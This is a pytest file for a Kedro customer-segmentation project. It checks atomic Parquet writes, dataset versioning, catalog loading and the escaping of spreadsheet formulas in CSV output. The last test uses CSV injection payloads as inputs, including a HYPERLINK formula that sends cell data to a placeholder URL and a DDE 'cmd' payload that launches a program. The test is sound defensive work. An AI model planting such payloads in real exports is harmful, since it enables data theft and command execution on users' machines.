"""Project datasets keep stock Kedro semantics and write their files atomically."""

import pandas as pd
import pytest
from kedro.io import DataCatalog
from kedro.io.core import DatasetError, Version

from customer_segmentation.datasets import CSVDataset, JSONDataset, ParquetDataset


def test_save_returns_with_the_file_complete_and_no_partial_left(tmp_path):
    table = pd.DataFrame({"ID": [1, 2, 3], "amount": [1.5, 2.5, 3.5]})
    dataset = ParquetDataset(filepath=str(tmp_path / "table.parquet"))

    dataset.save(table)

    assert sorted(p.name for p in tmp_path.iterdir()) == ["table.parquet"]
    pd.testing.assert_frame_equal(pd.read_parquet(tmp_path / "table.parquet"), table)


def test_a_failed_write_keeps_the_previous_file_and_leaves_no_partial(tmp_path):
    path = tmp_path / "table.parquet"
    dataset = ParquetDataset(filepath=str(path))
    dataset.save(pd.DataFrame({"ID": [1]}))
    before = path.read_bytes()

    unwritable = pd.DataFrame({"ID": [1], "bad": [object()]})  # pyarrow cannot encode it
    with pytest.raises(DatasetError):
        dataset.save(unwritable)

    assert path.read_bytes() == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["table.parquet"]


def test_versioned_table_saves_twice_and_loads_both_versions(tmp_path):
    path = str(tmp_path / "segments.parquet")
    for version, ids in [("2026-01-01T00.00.00.000Z", [1, 2]), ("2026-02-01T00.00.00.000Z", [3])]:
        dataset = ParquetDataset(filepath=path, version=Version(None, version))
        dataset.save(pd.DataFrame({"ID": ids}))

    first = ParquetDataset(filepath=path, version=Version("2026-01-01T00.00.00.000Z", None))
    latest = ParquetDataset(filepath=path, version=Version(None, None))

    assert first.load()["ID"].tolist() == [1, 2]
    assert latest.load()["ID"].tolist() == [3]


def test_catalog_versioning_from_yaml(tmp_path):
    catalog = DataCatalog.from_config(
        {
            "decision": {
                "type": "customer_segmentation.datasets.JSONDataset",
                "filepath": str(tmp_path / "decision.json"),
                "versioned": True,
            }
        }
    )
    catalog.save("decision", {"chosen_k": 4})

    versions = list((tmp_path / "decision.json").iterdir())
    assert len(versions) == 1
    assert catalog.load("decision") == {"chosen_k": 4}
    assert isinstance(catalog.get("decision"), JSONDataset)


def test_csv_text_cells_cannot_run_as_spreadsheet_formulas(tmp_path):
    rows = pd.DataFrame(
        {
            "Education": ['=HYPERLINK("http://x"&A1,"click")', "+cmd|' /C calc'!A0", "PhD"],
            "Marital_Status": ["@SUM(A1:A9)", "-2+3", "\tTab"],
            "Income": [-5.0, 10.0, 20.0],
        }
    )
    path = tmp_path / "rejected.csv"

    CSVDataset(filepath=str(path), save_args={"index": False}).save(rows)
    written = pd.read_csv(path)

    assert written["Education"].tolist() == [
        '\'=HYPERLINK("http://x"&A1,"click")',
        "'+cmd|' /C calc'!A0",
        "PhD",
    ]
    assert written["Marital_Status"].tolist() == ["'@SUM(A1:A9)", "'-2+3", "'\tTab"]
    assert written["Income"].tolist() == [-5.0, 10.0, 20.0]  # numbers stay numbers
    assert rows["Education"][0].startswith("=")  # the caller's frame is unchanged
